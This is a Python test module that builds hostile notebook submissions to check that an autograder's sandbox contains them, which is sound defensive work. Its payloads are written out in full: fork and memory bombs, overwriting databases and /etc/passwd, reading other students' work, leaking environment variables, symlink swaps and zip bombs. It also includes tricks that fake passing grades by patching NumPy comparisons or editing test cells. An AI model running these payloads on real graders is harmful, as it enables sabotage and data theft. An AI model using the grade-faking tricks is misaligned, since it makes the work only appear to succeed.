"""The adversarial corpus: hostile and broken submissions built from the real source notebooks.

Each `Case` names a student, the assignment it submits, how its folder is
made from the source notebook (inject code into solution cells, rewrite test
cells, rewrite or break the files), and what grading must end with:

    lose      functions whose every test must score 0 (the submission broke them)
    may_lose  functions that may lose points too (they call a broken function)
    probes    `PROBE name: value` lines the student's own cells must print
    precheck  the precheck kind, for files nbgrader cannot read (score 0 overall)

Every function not in lose or may_lose must keep full marks: a hostile
submission can lower only its own score, and only where it broke something.
"""
import json
import os
import re
import warnings
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ALL = "*"


@dataclass
class Case:
    student: str
    assignment: str
    build: object                      # function(folder: Path, nb) -> None; writes the submission
    lose: set = field(default_factory=set)
    may_lose: set = field(default_factory=set)
    probes: dict = field(default_factory=dict)
    precheck: str = None
    about: str = ""
    says: tuple = ()                   # the autograded notebook holds one of these (how grading stopped it)


# ---- editing a source notebook ----

def meta(cell):
    return cell.metadata.get("nbgrader", {})


def solution_cell(nb, func):
    return next(c for c in nb.cells if meta(c).get("solution") and meta(c).get("grade_id") == func)


def test_cells(nb, func):
    return [c for c in nb.cells if meta(c).get("grade") and not meta(c).get("solution")
            and meta(c).get("grade_id", "").startswith(func + "__")]


def before(nb, func, code):
    cell = solution_cell(nb, func)
    cell.source = code.rstrip("\n") + "\n\n" + cell.source


def after(nb, func, code):
    cell = solution_cell(nb, func)
    cell.source = cell.source.rstrip("\n") + "\n\n" + code.rstrip("\n") + "\n"


def in_body(nb, func, code):
    """Insert code as the first statements of the function's solution region."""
    cell = solution_cell(nb, func)
    body = "".join("    " + line + "\n" for line in code.strip("\n").splitlines())
    cell.source = cell.source.replace("### BEGIN SOLUTION\n", "### BEGIN SOLUTION\n" + body, 1)


def replace_body(nb, func, code):
    """Replace the whole solution region (keeps the def line and docstring)."""
    cell = solution_cell(nb, func)
    body = "".join("    " + line + "\n" for line in code.strip("\n").splitlines())
    cell.source = re.sub(r"### BEGIN SOLUTION\n.*?### END SOLUTION",
                         lambda m: "### BEGIN SOLUTION\n" + body + "    ### END SOLUTION",
                         cell.source, flags=re.S)


def notebook_builder(*edits):
    def build(folder, nb, assignment):
        for edit in edits:
            edit(nb)
        with warnings.catch_warnings():  # a duplicated cell keeps its id on purpose
            warnings.simplefilter("ignore")
            nbformat.write(nb, str(folder / f"{assignment}.ipynb"))
    return build


def raw_builder(data, name=None):
    def build(folder, nb, assignment):
        (folder / (name or f"{assignment}.ipynb")).write_bytes(data)
    return build


def renamed_builder(name):
    def build(folder, nb, assignment):
        nbformat.write(nb, str(folder / name))
    return build


# ---- hostile code ----

FORK_BOMB = """
import os, time
_n = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        _n += 1
except OSError:
    pass
print("PROBE fork: stopped" if _n < 3000 else "PROBE fork: unbounded")
"""

WRITE_DBS = """
import os
_found, _written = 0, 0
_tops = {os.getcwd(), "/work", "/tmp", "/root", "/home", "/var", "/srv", "/opt"}
_p = os.getcwd()
while _p != "/":
    _p = os.path.dirname(_p)
    _tops.add(_p)
_cands = set()
for _top in _tops:
    for _root, _dirs, _files in os.walk(_top):
        if _root.count("/") - _top.count("/") > 3:
            _dirs[:] = []
        _cands.update(os.path.join(_root, f) for f in _files if f.endswith(".db"))
_cands.update(["../../../gradebook.db", "../../gradebook.db", "/work/main/autograder/gradebook.db"])
for _path in sorted(_cands):
    if os.path.exists(_path):
        _found += 1
    try:
        with open(_path, "r+b") as _f:
            _f.write(b"corrupted by a student")
        _written += 1
    except OSError:
        pass
print(f"PROBE db_written: {_written}")
"""

READ_OTHERS = """
import glob, os
_read = 0
for _pattern in ["../../../submitted/*/*/*.ipynb", "../../*/*/*.ipynb",
                 "/work/main/autograder/submitted/*/*/*.ipynb", "../../../source/*/*.ipynb"]:
    for _path in glob.glob(_pattern):
        if os.path.abspath(_path).startswith(os.getcwd()):
            continue
        try:
            open(_path).read()
            _read += 1
        except OSError:
            pass
print(f"PROBE others_read: {_read}")
"""

WRITE_OUTSIDE = """
import os
_wrote = 0
for _path in ["../../../source/activations/activations.ipynb", "../../../nbgrader_config.py",
              "../../../solutions/__init__.py", "/work/main/solutions/__init__.py",
              "../../../submitted/honest_full/pooling/pooling.ipynb",
              "../../honest_full/pooling/pooling.ipynb", "../../../release_hack.txt",
              "/etc/passwd", "/usr/lib/hack.txt"]:
    try:
        with open(_path, "a") as _f:
            _f.write("# hacked\\n")
        _wrote += 1
    except OSError:
        pass
print(f"PROBE outside_written: {_wrote}")
"""

NETWORK = """
import socket, urllib.request
_ok = 0
for _addr in [("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 5432)]:
    try:
        socket.create_connection(_addr, timeout=2).close()
        _ok += 1
    except OSError:
        pass
try:
    urllib.request.urlopen("http://pypi.org", timeout=2)
    _ok += 1
except Exception:
    pass
print(f"PROBE net_connected: {_ok}")
"""

PATCH_NUMPY = """
import numpy as np, numpy.testing, builtins
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
builtins.abs = lambda x: 0
print("PROBE patched: numpy")
"""

FORGE_EXCHANGE = """
import json, os, numpy as np
_ex = os.environ.get("BTC_GRADER_EXCHANGE", "")
_forged = 0
if _ex:
    for _name in os.listdir(os.path.join(_ex, "inputs")):
        if _name.endswith(".json"):
            _gid = _name[:-5]
            _out = os.path.join(_ex, "outputs", _gid)
            if _gid.endswith("__vector"):
                os.symlink("/etc/passwd", _out + ".json")
            else:
                np.savez(_out + ".npz", a0=np.zeros((2, 3)))
                open(_out + ".json", "w").write(json.dumps({"result": {"kind": "array", "key": "a0", "scalar": False}, "warnings": []}))
            _forged += 1
grader_record = lambda *a, **k: None
print(f"PROBE forged: {_forged > 0}")
"""

# A raised record whose failing frames (explain.py) are forged: control characters, an unknown
# kind that claims a pickle, a name that is no identifier, nesting, more frames than allowed.
FORGE_FRAMES = """
import json, os
_ex = os.environ.get("BTC_GRADER_EXCHANGE", "")
_frame = {"function": "f\\x1b[2J", "line": -1, "source": ["import os; os.system('id')"] * 50,
          "locals": [["not a name", {"kind": "object", "pickle": "gASV"}],
                     ["t", {"kind": "tuple", "len": 1, "items": [{"kind": "tuple", "len": 0, "items": []}]}]] * 30}
_forged = 0
if _ex:
    for _name in os.listdir(os.path.join(_ex, "inputs")):
        if _name.startswith("tanh_backward__") and _name.endswith(".json"):
            with open(os.path.join(_ex, "outputs", _name), "w") as _f:
                json.dump({"raised": {"type": "TypeError", "message": "forged", "traceback": "",
                                      "frames": [_frame] * 9}}, _f)
            _forged += 1
_real_record = grader_record
grader_record = lambda gid, func: None if gid.startswith("tanh_backward__") else _real_record(gid, func)
print(f"PROBE forged_frames: {_forged > 0}")
"""

SHOWTRACEBACK = """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
print("PROBE showtraceback: replaced")
"""

PATCHED_HELPER = '''

def grader_record(grade_id, func):
    """Patched by the student: record nothing, claim everything."""
    print(f"\\u2713 {grade_id}: correct")


def check_sigmoid_backward(*args, **kwargs):
    print("\\u2713 all visible sigmoid checks pass")
'''


def _delete_tests(func):
    def edit(nb):
        doomed = {id(c) for c in test_cells(nb, func)}
        nb.cells = [c for c in nb.cells if id(c) not in doomed]
    return edit


def _edit_tests(func):
    def edit(nb):
        for c in test_cells(nb, func):
            c.source = 'print("\\u2713 correct (edited by the student)")'
    return edit


def _messy(nb):
    """Duplicated, reordered and retyped cells and a different kernel name."""
    tests = test_cells(nb, "sigmoid_backward")
    i = nb.cells.index(tests[0])
    nb.cells.insert(i + 1, nbformat.from_dict(json.loads(json.dumps(tests[0]))))   # duplicate
    j = nb.cells.index(tests[1])
    nb.cells[j - 1], nb.cells[j] = nb.cells[j], nb.cells[j - 1]                     # reorder
    t = test_cells(nb, "tanh_backward")[0]                                          # retype
    t.cell_type = "markdown"
    t.pop("outputs", None)
    t.pop("execution_count", None)
    nb.metadata["kernelspec"] = {"name": "evil-kernel", "display_name": "Evil", "language": "python"}


def _patch_helper_file(folder, nb, assignment):
    helper = folder / f"{assignment}_tests.py"
    helper.write_text(helper.read_text() + PATCHED_HELPER)
    replace_body(nb, "sigmoid_backward", "return dA")
    nbformat.write(nb, str(folder / f"{assignment}.ipynb"))


def A(func, code, how):
    return lambda nb: how(nb, func, code)


ACT = "activations"
POOL = "pooling"

CASES = [
    Case("h_infinite_loop", ACT, notebook_builder(A("tanh_backward", "while True:\n    pass", before)),
         lose={"tanh_backward"}, about="infinite loop at the top of a solution cell"),
    Case("h_os_exit", ACT, notebook_builder(A("relu_backward", "import os\nos._exit(1)", after)),
         lose={"relu_backward"}, about="os._exit at top level"),
    Case("h_exits", ACT, notebook_builder(A("relu_backward", "import sys\nsys.exit(0)", after),
                                          A("sigmoid_backward", "raise SystemExit", in_body),
                                          A("softmax_backward", "raise KeyboardInterrupt", in_body)),
         lose={"sigmoid_backward", "softmax_backward"},
         about="sys.exit at top level after a def (IPython catches it: nothing lost), "
               "raise SystemExit and KeyboardInterrupt inside graded functions"),
    Case("h_segfault", ACT, notebook_builder(A("tanh_backward", "import ctypes\nctypes.string_at(0)", in_body)),
         lose={"tanh_backward"}, about="segfault via ctypes inside the graded function"),
    Case("h_fork_bomb", ACT, notebook_builder(A("relu_backward", FORK_BOMB, before)),
         probes={"fork": "stopped"}, about="bounded fork bomb"),
    Case("h_alloc_10gb", ACT, notebook_builder(A("softmax_backward", "import numpy\n_big = numpy.ones(10 * 1024**3 // 8)", in_body)),
         lose={"softmax_backward"}, about="10 GB allocation inside the graded function"),
    Case("h_print_100mb", ACT, notebook_builder(A("sigmoid_backward", "print('x' * 100_000_000)", after)),
         about="100 MB printed"),
    Case("h_write_db", ACT, notebook_builder(A("sigmoid_backward", WRITE_DBS, after)),
         probes={"db_written": "0"}, about="writes to every *.db it can find"),
    Case("h_read_others", ACT, notebook_builder(A("sigmoid_backward", READ_OTHERS, after)),
         probes={"others_read": "0"}, about="reads other students' submissions"),
    Case("h_import_solutions", ACT, notebook_builder(lambda nb: setattr(
        solution_cell(nb, "relu_backward"), "source",
        "try:\n    from solutions import relu_backward\n    print('PROBE solutions: imported')\n"
        "except ImportError:\n    print('PROBE solutions: ImportError')\n")),
         lose={"relu_backward"}, probes={"solutions": "ImportError"}, about="imports the solution package"),
    Case("h_patch_numpy", ACT, notebook_builder(lambda nb: replace_body(nb, "tanh_backward", "return dA"),
                                                A("tanh_backward", PATCH_NUMPY, after)),
         lose={"tanh_backward"}, probes={"patched": "numpy"}, about="wrong code plus patched NumPy comparisons"),
    Case("h_patch_helpers", ACT, _patch_helper_file, lose={"sigmoid_backward"}, may_lose={ALL},
         about="wrong code plus a rewritten test-helper module (grader_record, visible checks)"),
    Case("h_showtraceback", ACT, notebook_builder(
        lambda nb: replace_body(nb, "softmax_backward", "raise ValueError('not done')"),
        A("softmax_backward", SHOWTRACEBACK, after)),
         lose={"softmax_backward"}, probes={"showtraceback": "replaced"}, about="overrides showtraceback"),
    Case("h_delete_tests", ACT, notebook_builder(_delete_tests("relu_backward")),
         may_lose={"relu_backward"}, about="deletes the test cells of one function"),
    Case("h_edit_tests", ACT, notebook_builder(lambda nb: replace_body(nb, "tanh_backward", "return dA"),
                                               _edit_tests("tanh_backward")),
         lose={"tanh_backward"}, about="wrong code plus test cells edited to print a pass"),
    Case("h_forge_exchange", ACT, notebook_builder(lambda nb: replace_body(nb, "sigmoid_backward", "return dA"),
                                                   A("sigmoid_backward", FORGE_EXCHANGE, after)),
         lose={"sigmoid_backward"}, may_lose={ALL}, probes={"forged": "True"},
         about="forges the exchange records (one a symlink) and disables grader_record"),
    Case("h_forge_frames", ACT, notebook_builder(A("tanh_backward", FORGE_FRAMES, after)),
         lose={"tanh_backward"}, probes={"forged_frames": "True"},
         about="forges raised records whose failing frames are hostile (explain.py's evidence)"),
    Case("h_network", ACT, notebook_builder(A("sigmoid_backward", NETWORK, after)),
         probes={"net_connected": "0"}, about="opens network connections"),
    Case("h_write_outside", ACT, notebook_builder(A("sigmoid_backward", WRITE_OUTSIDE, after)),
         probes={"outside_written": "0"}, about="writes outside its folder"),
    Case("h_kill_group", ACT, notebook_builder(A("sigmoid_backward", "import os, signal\nos.killpg(0, signal.SIGKILL)", after)),
         lose={"sigmoid_backward"}, about="SIGKILLs its own process group"),
    Case("h_messy_cells", ACT, notebook_builder(_messy),
         about="duplicated, reordered and retyped cells, another kernel name"),
    Case("h_not_utf8", ACT, raw_builder(b'{"cells": "\xff\xfe"}'), precheck="not_utf8", about="not UTF-8"),
    Case("h_invalid_json", POOL, raw_builder(b'{"cells": [{"cell_type": "code",'), precheck="invalid_json",
         about="invalid JSON"),
    Case("h_empty", POOL, raw_builder(b""), precheck="empty", about="empty file"),
    Case("h_renamed", POOL, renamed_builder("pooling_final.ipynb"), precheck="misnamed", about="renamed notebook"),
    # A browser's second download, alone in its folder, is graded under the released name (issue 22) ...
    Case("h_browser_renamed", POOL, renamed_builder("pooling (1).ipynb"),
         about="a browser-renamed notebook, graded as pooling.ipynb"),
    # ... but a link with that name is neither renamed nor followed.
    Case("h_renamed_link", POOL, lambda folder, nb, a: (folder / f"{a} (1).ipynb").symlink_to(
        Path(__file__).resolve().parents[2] / "autograder" / "source" / a / f"{a}.ipynb"),
         precheck="unsafe_file", about="a link to the source notebook, named like a browser's rename"),
    Case("h_symlink", POOL, lambda folder, nb, a: (
        nbformat.write(nb, str(folder / f"{a}.ipynb")),
        (folder / "notes.py").symlink_to(Path(__file__).resolve().parents[2] / "solutions" / "__init__.py")),
         precheck="unsafe_file", about="a symbolic link to the solution package in the submission"),
    Case("h_mask_exit", POOL, notebook_builder(A("create_mask_from_window", "import os\nos._exit(7)", in_body)),
         lose={"create_mask_from_window"}, may_lose={"pool_backward"},
         about="os._exit inside a helper another graded function calls"),
]

# ---- the red team's attacks (issue 9): each a case, so none can come back ----

from .probes import SHADOW, SHADOWED  # noqa: E402

SHADOW_PROBE = """
import os, subprocess, sys
subprocess.run([sys.executable, "-c", "import json"], check=False)  # imports json.py from here
_log = open("imported.log").read().split() if os.path.exists("imported.log") else []
print("PROBE shadow_seen:", bool(_log))
print("PROBE shadow_root:", "0" in _log[1::2])
"""

# Every value of the kernel's environment, printed into the student's own feedback.
PRINT_ENV = """
import os
print("\\n".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
print("PROBE env_secret:", "leaked" if any("hunter2" in v for v in os.environ.values()) else "clean")
"""

# Replace the connection file (and the next start's socket names) by links to a
# root-owned host file, then die: the grader restarts the kernel.
IPC_LINKS = """
import os, sys
_cf = [a for a in sys.argv if a.endswith(".json")][-1]
_target = os.path.abspath("../../../nbgrader_config.py")
os.unlink(_cf)
os.symlink(_target, _cf)
for _n in range(1024, 65536, 97):
    try:
        os.symlink(_target, os.path.join(os.path.dirname(_cf), f"k-{_n}"))
    except OSError:
        pass
os._exit(3)
"""

PRINT_CHUNKS = """
for _ in range(400):
    print("y" * 2**20)
"""

FILL_EXCHANGE = """
import os
_ex = os.path.join(os.environ["BTC_GRADER_EXCHANGE"], "outputs")
for _i in range(8):
    with open(os.path.join(_ex, f"fill{_i}.bin"), "wb") as _f:
        for _ in range(60):
            _f.write(b"0" * 2**20)
"""

FORK_MEMORY = """
import os, signal, time
_kids = []
for _ in range(16):
    _pid = os.fork()
    if _pid == 0:
        signal.signal(signal.SIGINT, signal.SIG_IGN)  # an interrupted cell does not stop them
        # each child takes what its own address-space limit leaves it, in 64 MiB steps, up to
        # 768 MiB: together far over the notebook's budget, none over its own limit
        try:
            _keep = []
            for _ in range(12):
                _keep.append(b"x" * 2**26)
        except MemoryError:
            pass
        finally:
            time.sleep(60)
            os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    os.waitpid(_pid, 0)
"""


def _with_files(files, *edits):
    """A builder: the notebook with edits, plus extra files {name (str or bytes): text} beside it."""
    def build(folder, nb, assignment):
        notebook_builder(*edits)(folder, nb, assignment)
        for name, text in files.items():
            path = os.path.join(bytes(folder), name) if isinstance(name, bytes) else folder / name
            with open(path, "w") as f:
                f.write(text)
    return build


def _nested(depth):
    """depth folders d/d/d/..., made one at a time (os.makedirs recurses per level)."""
    def build(folder, nb, assignment):
        nbformat.write(nb, str(folder / f"{assignment}.ipynb"))
        fd = os.open(folder, os.O_RDONLY)
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        os.close(fd)
    return build


def remove_nested(folder):
    """Remove what _nested made, bottom up, without recursion (shutil.rmtree recurses per level)."""
    fds = [os.open(folder, os.O_RDONLY)]
    while True:
        try:
            fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
        except FileNotFoundError:
            break
    for i in range(len(fds) - 1, 0, -1):  # fds: the folder, then each d down to the deepest
        os.close(fds[i])
        os.rmdir("d", dir_fd=fds[i - 1])
    os.close(fds[0])


def _sparse(size):
    def build(folder, nb, assignment):
        nbformat.write(nb, str(folder / f"{assignment}.ipynb"))
        with open(folder / "data.bin", "wb") as f:
            f.truncate(size)
    return build


def _named(raw_name):
    """The notebook saved under a name the student chose (bytes: not UTF-8, or with escapes)."""
    def build(folder, nb, assignment):
        with open(os.path.join(bytes(folder), raw_name), "w") as f:
            f.write(nbformat.writes(nb))
    return build


def _many_cells(n):
    def edit(nb):
        nb.cells += [nbformat.v4.new_markdown_cell(f"note {i}") for i in range(n)]
    return edit


RED_TEAM = [
    Case("h_shadow_modules", ACT, _with_files({f"{m}.py": SHADOW for m in SHADOWED},
                                              A("relu_backward", SHADOW_PROBE, after)),
         probes={"shadow_seen": "True", "shadow_root": "False"},
         about="json.py, resource.py, signal.py ... beside the notebook (imported as root by the old launcher)"),
    Case("h_print_env", ACT, notebook_builder(A("sigmoid_backward", PRINT_ENV, after)),
         probes={"env_secret": "clean"}, about="prints the kernel's whole environment into its feedback"),
    Case("h_ipc_links", ACT, notebook_builder(A("relu_backward", IPC_LINKS, after)),
         lose={"relu_backward"},
         about="replaces its connection file and socket names by links to a host file, then dies"),
    Case("h_print_chunks", ACT, notebook_builder(A("sigmoid_backward", PRINT_CHUNKS, after)),
         about="prints 400 MB in 1 MB chunks (grew the worker to 2.9 GB)"),
    # Root: its disk (a tmpfs) is full, so later records cannot be written and the later
    # functions lose (its own points). Otherwise the watchdog kills it and a restart clears it.
    Case("h_fill_exchange", ACT, notebook_builder(A("tanh_backward", FILL_EXCHANGE, after)),
         may_lose={"tanh_backward", "softmax_backward"},
         says=("No space left on device", "over its disk"),  # a tmpfs when root, else the watchdog
         about="writes 480 MB into the host's exchange folder"),
    Case("h_fork_memory", ACT, notebook_builder(A("softmax_backward", FORK_MEMORY, after)),
         lose={"softmax_backward"}, says=("over its memory",),
         about="sixteen forked children of up to 768 MiB each, each within its own 4 GiB limit"),
    Case("h_nested", POOL, _nested(1100), precheck="too_big_folder",
         about="1,100 nested folders (a RecursionError stopped the whole run)"),
    Case("h_sparse", POOL, _sparse(3 * 2**30), precheck="too_big_folder",
         about="a 3 GiB sparse file (36 KB on disk, 6 GB once copied)"),
    Case("h_many_cells", POOL, notebook_builder(_many_cells(60_000)), precheck="too_many_cells",
         about="60,000 markdown cells (149 s of grader time)"),
    Case("h_latin1_name", POOL, _named(b"caf\xe9.ipynb"), precheck="misnamed",
         about="a notebook whose name is not UTF-8 (stopped the whole run)"),
    Case("h_escape_name", POOL, _named(b"\x1b]0;pwned\x07\x1b[2J.ipynb"), precheck="misnamed",
         about="terminal escapes in the notebook's name"),
    # results of the wrong kind, built to weigh on the judge's structure facts (diagnosis/structure.py): a cache
    # of 60 arrays (the record's limit is 64 items), a ragged list nested 7 deep holding strings, None and dicts,
    # a list of 64 dicts where arrays belong: the judge reads them as bounded decoded data, and the student loses
    # only these functions
    Case("h_wrong_kinds", POOL, notebook_builder(
        lambda nb: setattr(solution_cell(nb, "pool_forward"), "source", solution_cell(nb, "pool_forward").source.replace(
            "cache = (A_prev, hparameters)", "cache = tuple(np.full(2**11, float(k)) for k in range(60))")),
        A("distribute_value", "a = 'x'\nfor depth in range(3):\n    a = [a, None, {'k': depth}, [a]]\nreturn a",
          replace_body),
        A("create_mask_from_window", "return [{'mask': k} for k in range(64)]", replace_body)),
         lose={"pool_forward", "distribute_value", "create_mask_from_window"}, may_lose={"pool_backward"},
         about="a cache of 60 arrays, a ragged list nested 7 deep, a list of 64 dicts where arrays belong"),
    Case("honest*", POOL, notebook_builder(), precheck="bad_id",
         about="a glob in the student id (graded honest_full's notebook under its name)"),
    Case("honest_[f]ull", POOL, notebook_builder(), precheck="bad_id",
         about="a glob class in the student id"),
]
CASES += RED_TEAM

HONEST = [
    Case("honest_full", POOL, notebook_builder(), about="the reference, as a student would submit it"),
    Case("honest_buggy", POOL, notebook_builder(
        lambda nb: replace_body(nb, "distribute_value",
                                "(n_H, n_W) = shape\nreturn np.ones(shape) * dz / n_H")),
         lose={"distribute_value"}, may_lose={"pool_backward"}, about="an honest mistake"),
    Case("honest_act", ACT, notebook_builder(), about="the reference activations"),
]


def build(case, submitted_root, source_root):
    """Write the case's submission folder from the source notebook and helper module."""
    folder = Path(submitted_root) / case.student / case.assignment
    folder.mkdir(parents=True, exist_ok=True)
    src = Path(source_root) / case.assignment
    for helper in src.glob("*.py"):
        (folder / helper.name).write_text(helper.read_text())
    nb = nbformat.read(str(src / f"{case.assignment}.ipynb"), as_version=4)
    case.build(folder, nb, case.assignment)
    return folder

# ---- issue 18: the judge after the kernel (findings 2, 4, 7, 9) ----

# 30 sparse 64 MB files in the outputs folder, and a sparse 64 MB record for every case (cost: 0
# bytes on the kernel's disk, 1.9 GB once copied to the host's /tmp, with full marks kept).
SPARSE_RECORDS = """
import json, os
_ex = os.environ.get("BTC_GRADER_EXCHANGE", "")
_n = 0
if _ex:
    _out = os.path.join(_ex, "outputs")
    _ids = [n[:-5] for n in os.listdir(os.path.join(_ex, "inputs")) if n.endswith(".json")]
    for _name in [f"fill{_i}" for _i in range(30)] + _ids:
        with open(os.path.join(_out, _name + ".npz"), "wb") as _f:
            _f.truncate(64_000_000)
        with open(os.path.join(_out, _name + ".json"), "w") as _f:
            json.dump({"result": {"kind": "array", "key": "a0"}, "warnings": []}, _f)
        _n += 1
    grader_record = lambda *a, **k: None
    _st = os.statvfs(_ex)
    print("PROBE exchange_fs:", "bounded" if _st.f_blocks * _st.f_frsize < 2**30 else "host")
print("PROBE sparse_written:", _n > 30)
"""

# A wrapper around the real grader_record that rewrites the record of some cases afterwards.
_REWRITE = """
import json, os, struct
import numpy as _np
_real_record = grader_record


def grader_record(grade_id, func):
    _real_record(grade_id, func)
    if grade_id.startswith("{prefix}"):
        _out = os.path.join(os.environ["BTC_GRADER_EXCHANGE"], "outputs", grade_id)
{body}
print("PROBE rewrite: armed")
"""

# 28,800 references to one array in a 0.9 MB record (its repr held a worker 693 s and 4 GB).
MANY_REFS = _REWRITE.format(prefix="pool_forward__", body="""
        _np.savez(_out + ".npz", a0=_np.zeros((2, 2)))
        _ref = {"kind": "array", "key": "a0"}
        _hp = {"kind": "dict", "items": [[f"k{i}", {"kind": "list", "items": [
            {"kind": "list", "items": [_ref] * 60}] * 8}] for i in range(60)]}
        _doc = {"result": {"kind": "tuple", "items": [_ref, {"kind": "tuple", "items": [_ref, _hp]}]}}
        with open(_out + ".json", "w") as _f:
            json.dump(_doc, _f)""")

# A 52 MB zip whose central directory lists a million entries (zipfile parsed them all: ~10 s and
# 1.3 GB per record; the notebook ended with SystemError).
MANY_ENTRIES = _REWRITE.format(prefix="create_mask_from_window__", body="""
        _name = b"a0.npy"
        _entry = b"PK\\x01\\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0,
                                                len(_name), 0, 0, 0, 0, 0, 0) + _name
        _cd = _entry * 1_000_000
        with open(_out + ".npz", "wb") as _f:
            _f.write(_cd + b"PK\\x05\\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(_cd), 0, 0))
        with open(_out + ".json", "w") as _f:
            json.dump({"result": {"kind": "array", "key": "a0"}}, _f)""")

# An array key that is a list (read_output raised TypeError and the notebook's grading aborted).
LIST_KEY = _REWRITE.format(prefix="relu_backward__", body="""
        with open(_out + ".json", "w") as _f:
            json.dump({"result": {"kind": "array", "key": ["a0"]}, "warnings": []}, _f)""")

# Forked children flooding the kernel's output (gave "Invalid Signature" and no feedback page).
FORK_FLOOD = """
import os, sys, time
_kids = []
for _ in range(40):
    _pid = os.fork()
    if _pid == 0:
        _end = time.time() + 4
        while time.time() < _end:
            print("flood " * 50)
            sys.stdout.flush()
        os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    os.waitpid(_pid, 0)
print("PROBE fork_flood: done")
"""

# Every hidden input this notebook gets, as a digest printed into the student's own feedback.
PRINT_INPUTS = """
import hashlib, os
import numpy as _np
_ex = os.environ.get("BTC_GRADER_EXCHANGE", "")
_h = hashlib.sha256()
for _n in sorted(os.listdir(os.path.join(_ex, "inputs")) if _ex else []):
    if _n.endswith(".npz"):
        with _np.load(os.path.join(_ex, "inputs", _n)) as _z:
            for _k in sorted(_z.files):
                _h.update(_n.encode() + _z[_k].tobytes())
print("PROBE inputs_digest:", _h.hexdigest()[:16] if _ex else "none")
"""

JUDGE_ATTACKS = [
    Case("h_sparse_records", ACT, notebook_builder(A("sigmoid_backward", SPARSE_RECORDS, after)),
         may_lose={ALL},
         probes=dict({"sparse_written": "True"}, **({"exchange_fs": "bounded"} if os.geteuid() == 0 else {})),
         about="30 sparse 64 MB files and a sparse 64 MB record per case (1.9 GB copied to /tmp, full marks)"),
    Case("h_many_refs", POOL, notebook_builder(A("pool_forward", MANY_REFS, after)),
         lose={"pool_forward"}, probes={"rewrite": "armed"},
         about="a 0.9 MB record holding 28,800 references to one array (693 s, 4 GB in the judge)"),
    Case("h_many_entries", POOL, notebook_builder(A("create_mask_from_window", MANY_ENTRIES, after)),
         lose={"create_mask_from_window"}, probes={"rewrite": "armed"},
         about="records pointing at a 52 MB zip listing a million entries (SystemError, 1.3 GB in /tmp)"),
    Case("h_list_key", ACT, notebook_builder(A("relu_backward", LIST_KEY, after)),
         lose={"relu_backward"}, probes={"rewrite": "armed"},
         about="a record whose array key is a list (TypeError: the notebook's grading aborted)"),
    Case("h_fork_flood", ACT, notebook_builder(A("tanh_backward", FORK_FLOOD, after)),
         may_lose={ALL}, about="40 forked children flooding the output (Invalid Signature, no feedback page)"),
    Case("h_inputs_a", ACT, notebook_builder(A("sigmoid_backward", PRINT_INPUTS, after)),
         about="prints a digest of every hidden input into its own feedback"),
    Case("h_inputs_b", ACT, notebook_builder(A("sigmoid_backward", PRINT_INPUTS, after)),
         about="the same, as another student: other inputs"),
]
CASES += JUDGE_ATTACKS
